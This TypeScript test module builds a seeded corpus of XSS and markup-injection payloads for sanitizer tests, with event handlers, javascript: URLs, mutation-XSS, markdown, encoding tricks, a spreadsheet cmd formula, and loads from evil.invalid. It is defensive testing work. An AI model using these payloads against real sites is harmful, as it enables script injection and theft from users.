/**
 * Markup of the kinds by which scripts get into pages, for Node and for the browser alike: shapes
 * written by hand, each known from a real hole, and any number of others put together at random
 * from a fixed seed. All of them call `fire()`, which a page under attack defines and counts.
 */
import * as fc from 'fast-check';

/** Shapes that a grammar would not come upon by itself. */
const CLASSIC: readonly string[] = [
  // The plain ones.
  '<script>fire()</script>',
  '<img src=x onerror=fire()>',
  '<svg onload=fire()>',
  '<svg><script>fire()</script></svg>',
  '<svg><animate onbegin=fire() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:fire()"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=fire() /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>fire()</script>"></iframe></foreignObject></svg>',
  '<svg><set attributeName=onmouseover to=fire()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=fire()>',
  '<math href="javascript:fire()">x</math>',
  '<iframe srcdoc="<script>parent.fire()</script>"></iframe>',
  '<iframe src="javascript:fire()"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.fire()&gt;"></iframe>',
  '<object data="javascript:fire()">',
  '<embed src="javascript:fire()">',
  '<base href="//evil.invalid/"><script src=a.js></script>',
  '<link rel=stylesheet href=//evil.invalid/a.css>',
  '<link rel=prefetch href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=javascript:fire()">',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<style>@import url(//evil.invalid/a.css);*{background:url(//evil.invalid/b)}</style>',
  '<div style="background-image:url(//evil.invalid/)">x</div>',
  '<form action="javascript:fire()"><button>x</button></form>',
  '<form id=a></form><button form=a formaction="javascript:fire()">x</button>',
  '<input autofocus onfocus=fire()>',
  '<details open ontoggle=fire()>',
  '<video><source onerror=fire()></video>',
  '<audio src=x onerror=fire()>',
  '<body onload=fire()>',
  '<marquee onstart=fire()>x</marquee>',
  '<dialog open onclose=fire()><form method=dialog><button autofocus>x</button></form></dialog>',
  '<a href="javascript:fire()">x</a>',
  '<a href="&#106;avascript:fire()">x</a>',
  '<a href="java&Tab;script:fire()">x</a>',
  '<a href="java&NewLine;script:fire()">x</a>',
  '<a href=" \u0001javascript:fire()">x</a>',
  '<a href="data:text/html,<script>fire()</script>">x</a>',
  '<a href="vbscript:fire()">x</a>',
  '<template shadowrootmode=open><img src=x onerror=fire()></template>',
  '<portal src="javascript:fire()">',
  '<img srcset="x 1x" onerror=fire()>',
  '<x contenteditable onblur=fire() tabindex=1 autofocus>x</x>',
  '<x popover id=p onbeforetoggle=fire()>x</x><button popovertarget=p>x</button>',
  // Mutation: read, written and read again, these become something else.
  '<noscript><p title="</noscript><img src=x onerror=fire()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=fire()>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=fire() src>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fire()&gt;">',
  '<select><template><style><!--</style></template><img src=x onerror=fire()>--></select>',
  '<textarea></textarea><img src=x onerror=fire()>',
  '<title></title><img src=x onerror=fire()>',
  '<xmp></xmp><img src=x onerror=fire()>',
  '<!--><img src=x onerror=fire()>-->',
  '<!--[if gte IE 4]><script>fire()</script><![endif]-->',
  '<![CDATA[><img src=x onerror=fire()>]]>',
  '<?xml-stylesheet href="javascript:fire()"?>',
  '<image src=x onerror=fire()>',
  '<table background="javascript:fire()"><td>x',
  '<svg><desc><![CDATA[</desc><script>fire()</script>]]></svg>',
  // Out of an attribute, a text field, a comment, a script.
  '" onmouseover=fire() x="',
  "' onmouseover=fire() x='",
  '` onmouseover=fire() x=`',
  '"><img src=x onerror=fire()>',
  "'><img src=x onerror=fire()>",
  '</title><script>fire()</script>',
  '</textarea><script>fire()</script>',
  '</style><script>fire()</script>',
  '</script><script>fire()</script>',
  '--><script>fire()</script>',
  '</template></slot><img src=x onerror=fire()>',
  "';fire();//",
  '";fire();//',
  '`;fire();//',
  '\\";fire();//',
  // Templates of one kind and another, and the marks by which Lit finds its own places.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that looks like a template.
  '${fire()}',
  '#{fire()}',
  '{{fire()}}',
  '{{constructor.constructor("fire()")()}}',
  '<%= fire() %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that looks like a template.
  '${`${fire()}`}',
  'lit$123456789$',
  '<!--?lit$123456789$-->',
  '<?lit$123456789$>',
  '{{lit-123456}}',
  '<!--lit-part--><img src=x onerror=fire()><!--/lit-part-->',
  '<img $lit$ .onerror=fire() @error=fire() ?hidden=x>',
  // Markdown that would become markup.
  '[x](javascript:fire())',
  '[x](java\tscript:fire())',
  '[x](JaVaScRiPt:fire())',
  '[x](data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=)',
  '![x](x"onerror="fire())',
  '![x](//evil.invalid/a.png)',
  '<javascript:fire()>',
  '[x]: javascript:fire()\n\n[x]',
  '[x](https://a.cn" onmouseover="fire())',
  '[x](https://a.cn/<script>fire()</script>)',
  '[<img src=x onerror=fire()>](https://a.cn)',
  '**<img src=x onerror=fire()>**',
  '```html\n<script>fire()</script>\n```',
  '    <script>fire()</script>',
  '| <img src=x onerror=fire()> | b |\n|---|---|',
  // Characters that change how others are read.
  '\u202e<img src=x onerror=fire()>\u202c',
  '\u2066<script>fire()</script>\u2069',
  '<scr\u0000ipt>fire()</scr\u0000ipt>',
  '<scr\u200bipt>fire()</scr\u200bipt>',
  '\ufeff<script>fire()</script>',
  '＜script＞fire()＜/script＞',
  '\u00bcscript\u00befire()\u00bc/script\u00be',
  '+ADw-script+AD4-fire()+ADw-/script+AD4-',
  '%3Cscript%3Efire()%3C/script%3E',
  '&lt;script&gt;fire()&lt;/script&gt;',
  '&#x3c;script&#x3e;fire()&#x3c;/script&#x3e;',
  '\\u003cscript\\u003efire()\\u003c/script\\u003e',
  '\ud83d<img src=x onerror=fire()>',
  '\u2028<img src=x onerror=fire()>\u2029',
  // Formulas, for what ends in a table.
  '=HYPERLINK("javascript:fire()","x")',
  "@SUM(1)|cmd' /C calc'!A0",
  // Names that every object has.
  '__proto__',
  'constructor',
  'toString',
  // Far longer than anybody writes.
  `${'<b>'.repeat(400)}<img src=x onerror=fire()>`,
  `${'"><svg onload=fire()>'.repeat(60)}`,
  `${'['.repeat(300)}x](javascript:fire())`,
];

const breakOut = fc.constantFrom(
  '',
  '">',
  "'>",
  '`>',
  '"/>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</template>',
  '</svg>',
  '-->',
  ']]>',
  '}}',
  '`}',
  '\u202e',
  '\u0000',
  '&quot;&gt;',
  '][',
  ')',
);

const name = fc.constantFrom(
  'img',
  'svg',
  'script',
  'iframe',
  'a',
  'form',
  'style',
  'math',
  'object',
  'embed',
  'details',
  'video',
  'input',
  'body',
  'link',
  'meta',
  'base',
  'template',
  'button',
  'marquee',
  'x-yihu',
  'yihu-assistant',
);

/** A name as a careless filter would not know it: other case, a character within, a slash. */
const dressedName = fc
  .tuple(name, fc.constantFrom('', 'case', 'null', 'slash', 'space', 'prefix'))
  .map(([word, how]) => {
    switch (how) {
      case 'case':
        return [...word].map((c, i) => (i % 2 ? c : c.toUpperCase())).join('');
      case 'null':
        return `${word.slice(0, 1)}\u0000${word.slice(1)}`;
      case 'slash':
        return `${word}/`;
      case 'space':
        return `${word}\u000c`;
      case 'prefix':
        return `svg:${word}`;
      default:
        return word;
    }
  });

const handler = fc.constantFrom(
  'onerror',
  'onload',
  'ontoggle',
  'onfocus autofocus tabindex=0 onfocus',
  'onmouseover',
  'onbegin',
  'onanimationend',
  'OnErRoR',
  'on\u0000error',
  '@click',
  '.innerHTML',
);

const scheme = fc
  .constantFrom('javascript:', 'data:text/html,', 'vbscript:', 'blob:', 'filesystem:')
  .chain((word) =>
    fc.constantFrom(
      word,
      word.toUpperCase(),
      ` ${word}`,
      `\u0001${word}`,
      `${word.slice(0, 4)}\t${word.slice(4)}`,
      `${word.slice(0, 4)}\n${word.slice(4)}`,
      `&#${word.charCodeAt(0)};${word.slice(1)}`,
      `//x:@${word}`,
    ),
  );

const call = fc.constantFrom(
  'fire()',
  'fire``',
  'fire&lpar;&rpar;',
  'top.fire()',
  '(fire)()',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that looks like a template.
  '[].map.call`${fire}`',
  'import("//evil.invalid/a.js")',
);

const attribute = fc.oneof(
  fc.tuple(handler, call).map(([on, run]) => `${on}=${run}`),
  fc.tuple(handler, call).map(([on, run]) => `${on}="${run}"`),
  fc
    .tuple(
      fc.constantFrom('href', 'xlink:href', 'src', 'action', 'formaction', 'data'),
      scheme,
      call,
    )
    .map(([key, before, run]) => `${key}="${before}${run}"`),
  fc.constantFrom(
    'src=x',
    'href=//evil.invalid/',
    'srcset="//evil.invalid/ 1x"',
    'style=background:url(//evil.invalid/)',
    'srcdoc="<script>parent.fire()</script>"',
    'http-equiv=refresh content="0;url=//evil.invalid/"',
    'open',
    'autofocus',
    'is=yihu-assistant',
    'slot=x part=x',
  ),
);

const separator = fc.constantFrom(' ', '/', '\t', '\n', '\u000c', '\u00a0', '  ');

const content = fc.oneof(
  call,
  fc.constantFrom(
    '',
    '<!--',
    '<style>',
    '{{constructor.constructor("fire()")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: text that looks like a template.
    '${fire()}',
    '[x](javascript:fire())',
    '![x](//evil.invalid/x.png)',
    '<?lit$1$?>',
    '\u202e\u2066\u200b',
    '好'.repeat(200),
  ),
);

const end = fc.constantFrom('>', '/>', '>>', ' >', '', '\n>', '//', '<', '&gt;');

const markup: fc.Arbitrary<string> = fc
  .tuple(
    breakOut,
    dressedName,
    fc.array(fc.tuple(separator, attribute), {maxLength: 3}),
    end,
    content,
    fc.constantFrom('', 'close', 'nested', 'twice'),
  )
  .map(([before, tag, attributes, after, inside, shape]) => {
    const opened = `<${tag}${attributes.flat().join('')}${after}${inside}`;
    switch (shape) {
      case 'close':
        return `${before}${opened}</${tag}>`;
      case 'nested':
        return `${before}<math><mtext><table><mglyph><style>${opened}`;
      case 'twice':
        return `${before}${opened}${before}${opened}`;
      default:
        return before + opened;
    }
  });

const markdownLink = fc
  .tuple(fc.constantFrom('[x](', '![x](', '<', '[x]: ', '[x](<'), scheme, call)
  .map(([before, word, run]) => `${before}${word}${run}${before === '<' ? '>' : ')'}`);

/** One text that tries to become markup. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {weight: 8, arbitrary: markup},
  {weight: 1, arbitrary: markdownLink},
  {weight: 1, arbitrary: fc.tuple(markup, fc.string({unit: 'binary'})).map((all) => all.join(''))},
);

/** So many different texts: those written by hand first, the same for the same seed. */
export function hostileTexts(count: number, seed = 20261122): readonly string[] {
  const texts = new Set(CLASSIC.slice(0, count));
  for (let round = 0; texts.size < count; round += 1) {
    const wanted = {seed: seed + round, numRuns: count};
    for (const text of fc.sample(hostileText, wanted)) {
      texts.add(text);
      if (texts.size === count) break;
    }
  }
  return [...texts];
}

/** How many the tests of whole pages put through each field; a longer run may ask for more. */
export const CORPUS_SIZE = 2_000;
